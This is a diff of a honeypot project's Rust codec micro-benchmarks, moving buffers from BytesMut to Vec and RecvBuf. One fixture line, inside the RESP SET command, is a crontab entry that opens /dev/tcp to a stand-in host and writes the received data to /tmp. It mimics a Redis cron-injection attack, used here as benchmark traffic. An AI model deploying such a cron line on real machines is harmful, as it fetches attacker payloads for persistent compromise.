@@ -1,10 +1,10 @@
 //! Protocol codec micro-benchmarks: the per-frame cost every honeypot
 //! session pays. Run: `cargo bench -p decoy-bench --bench wire_codecs`
 
-use bytes::BytesMut;
 use criterion::{criterion_group, criterion_main, Criterion, Throughput};
-use decoy_net::codec::Codec;
 use decoy_store::normalize_action;
+use decoy_wire::buf::RecvBuf;
+use decoy_wire::codec::Codec;
 use decoy_wire::mongo::bson::{doc, Bson};
 use decoy_wire::mongo::{MongoCodec, MongoMessage};
 use decoy_wire::{http, mysql, pgwire, resp, tds};
@@ -18,20 +18,19 @@ fn bench(c: &mut Criterion) {
         "*/1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/deadbeef",
     ]);
     let mut codec = resp::RespCodec::server();
-    let mut encoded = BytesMut::new();
-    codec.encode(&set_cmd, &mut encoded).unwrap();
-    let resp_bytes = encoded.to_vec();
+    let mut resp_bytes = Vec::new();
+    codec.encode(&set_cmd, &mut resp_bytes).unwrap();
     let mut group = c.benchmark_group("resp");
     group.throughput(Throughput::Bytes(resp_bytes.len() as u64));
     group.bench_function("decode_set_command", |b| {
         b.iter(|| {
-            let mut buf = BytesMut::from(&resp_bytes[..]);
+            let mut buf = RecvBuf::from(resp_bytes.clone());
             black_box(codec.decode(&mut buf).unwrap())
         })
     });
     group.bench_function("encode_set_command", |b| {
         b.iter(|| {
-            let mut buf = BytesMut::new();
+            let mut buf = Vec::new();
             codec.encode(black_box(&set_cmd), &mut buf).unwrap();
             black_box(buf)
         })
@@ -65,7 +64,7 @@ fn bench(c: &mut Criterion) {
 
     // PostgreSQL startup
     let mut client = pgwire::PgClientCodec::new();
-    let mut startup = BytesMut::new();
+    let mut startup_bytes = Vec::new();
     client
         .encode(
             &pgwire::FrontendMessage::Startup {
@@ -74,14 +73,13 @@ fn bench(c: &mut Criterion) {
                     ("database".into(), "postgres".into()),
                 ],
             },
-            &mut startup,
+            &mut startup_bytes,
         )
         .unwrap();
-    let startup_bytes = startup.to_vec();
     c.bench_function("pgwire/startup_decode", |b| {
         b.iter(|| {
             let mut server = pgwire::PgServerCodec::new();
-            let mut buf = BytesMut::from(&startup_bytes[..]);
+            let mut buf = RecvBuf::from(startup_bytes.clone());
             black_box(server.decode(&mut buf).unwrap())
         })
     });
@@ -96,14 +94,13 @@ fn bench(c: &mut Criterion) {
     };
     let msg = MongoMessage::msg(1, customer);
     let mut mongo = MongoCodec;
-    let mut mongo_buf = BytesMut::new();
-    mongo.encode(&msg, &mut mongo_buf).unwrap();
-    let mongo_bytes = mongo_buf.to_vec();
+    let mut mongo_bytes = Vec::new();
+    mongo.encode(&msg, &mut mongo_bytes).unwrap();
     let mut group = c.benchmark_group("mongo");
     group.throughput(Throughput::Bytes(mongo_bytes.len() as u64));
     group.bench_function("op_msg_roundtrip", |b| {
         b.iter(|| {
-            let mut buf = BytesMut::from(&mongo_bytes[..]);
+            let mut buf = RecvBuf::from(mongo_bytes.clone());
             black_box(mongo.decode(&mut buf).unwrap())
         })
     });
@@ -111,19 +108,18 @@ fn bench(c: &mut Criterion) {
 
     // HTTP request parse (Elasticpot's hot path)
     let mut http_client = http::HttpClientCodec;
-    let mut http_buf = BytesMut::new();
+    let mut http_bytes = Vec::new();
     http_client
         .encode(
             &http::HttpRequest::new("POST", "/_search")
                 .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
-            &mut http_buf,
+            &mut http_bytes,
         )
         .unwrap();
-    let http_bytes = http_buf.to_vec();
     c.bench_function("http/request_decode", |b| {
         b.iter(|| {
             let mut server = http::HttpServerCodec;
-            let mut buf = BytesMut::from(&http_bytes[..]);
+            let mut buf = RecvBuf::from(http_bytes.clone());
             black_box(server.decode(&mut buf).unwrap())
         })
     });
